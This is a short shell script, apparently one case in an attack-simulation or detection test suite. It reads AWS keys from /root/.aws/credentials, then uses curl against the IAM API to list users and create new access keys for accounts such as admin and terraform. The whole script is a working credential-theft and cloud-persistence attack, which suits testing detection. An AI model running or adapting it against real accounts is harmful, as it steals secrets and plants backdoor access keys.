#!/bin/sh
. /opt/case/case.sh

. /dev/fd/3 3<<END
$(sed -n 's/^aws_access_key_id = /k=/p; s/^aws_secret_access_key = /s=/p' /root/.aws/credentials)
END
iam() { curl -sf --aws-sigv4 aws:amz:us-east-1:iam --user "$k:$s" -d "Action=$1&Version=2010-05-08" http://iam.amazonaws.com/ >/dev/null; }
iam ListUsers
for u in admin ci-deploy terraform backup ops; do iam "ListAccessKeys&UserName=$u"; iam "CreateAccessKey&UserName=$u"; done
took_place
